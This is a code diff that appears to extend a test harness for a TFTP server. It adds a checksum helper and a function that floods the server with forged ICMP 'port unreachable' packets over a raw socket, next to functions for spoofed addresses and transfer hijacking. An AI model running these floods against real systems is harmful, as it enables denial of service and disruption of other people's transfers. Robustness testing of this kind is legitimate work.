@@ -195,6 +195,32 @@ def forged_addresses(target, seconds, name, rate=10_000, most=500_000):
     return sent
 
 
+def checksum(packet):
+    total = sum(struct.unpack(f"!{len(packet) // 2}H", packet))
+    while total > 0xFFFF:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def unreachable_hosts(target, seconds, rate=20_000):
+    """ICMP says without end that a host cannot be reached to which the server's port has sent something. Takes the right
+    to forge. Returns how often."""
+    until, sent, began = Deadline(seconds), 0, time.monotonic()
+    udp = struct.pack("!HHHH", target.tftp[1], 20_000, 8, 0)
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0,
+                     socket.inet_aton(target.tftp[0]), socket.inet_aton("127.0.0.16"))
+    packet = struct.pack("!BBHI", 3, 1, 0, 0) + ip + udp
+    packet = packet[:2] + struct.pack("!H", checksum(packet)) + packet[4:]
+    with contextlib.closing(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)) as sock:
+        while until:
+            for _ in range(int((time.monotonic() - began) * rate) - sent):
+                with contextlib.suppress(OSError):
+                    sock.sendto(packet, (target.tftp[0], 0))
+                sent += 1
+            time.sleep(0.002)
+    return sent
+
+
 def hijacks(target, seconds, source="127.0.0.12"):
     """Requests and acknowledgements from the port of a transfer that runs."""
     until, sent = Deadline(seconds), 0
